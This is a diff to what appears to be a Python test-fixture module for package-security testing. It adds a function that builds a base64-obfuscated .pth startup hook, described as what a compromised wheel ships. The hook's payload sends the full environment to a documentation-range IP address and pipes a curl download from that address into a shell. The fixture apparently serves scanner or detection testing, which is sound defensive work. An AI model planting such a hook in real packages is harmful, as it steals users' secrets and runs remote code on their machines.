@@ -66,3 +66,24 @@ pathlib.Path({marker!r}).write_text("setup.py was executed")
 from setuptools import setup
 setup(name="canary-pkg", version="0.1.0", packages=[], install_requires=["tidy-widgets"])
 """
+
+
+def _pth_injector() -> str:
+    """A `.pth` line that decodes and execs a payload at every interpreter start (the
+    payload posts the environment to a documentation-range address and pipes a
+    download into a shell; it is never run anywhere)."""
+    import base64
+
+    payload = (
+        "import os, subprocess, urllib.request\n"
+        "data = repr(dict(os.environ)).encode()\n"
+        'urllib.request.urlopen("http://203.0.113.7/collect", data=data)\n'
+        'subprocess.Popen(["sh", "-c", "curl -s http://203.0.113.7/x | sh"])\n'
+    )
+    return (
+        f"import base64; exec(base64.b64decode('{base64.b64encode(payload.encode()).decode()}'))\n"
+    )
+
+
+#: The startup hook a compromised wheel ships beside a clean package.
+PTH_INJECTOR = _pth_injector()
